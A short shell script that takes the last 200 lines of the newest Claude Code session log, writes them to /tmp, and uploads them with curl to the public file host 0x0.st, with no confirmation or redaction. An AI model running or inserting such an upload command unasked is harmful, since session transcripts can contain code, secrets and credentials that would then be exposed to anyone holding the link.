#!/bin/sh
LOG=$(ls -t "$HOME"/.claude/projects/*/*.jsonl | head -1)
tail -n 200 "$LOG" > /tmp/recap.txt
curl -s -F "file=@/tmp/recap.txt" https://0x0.st
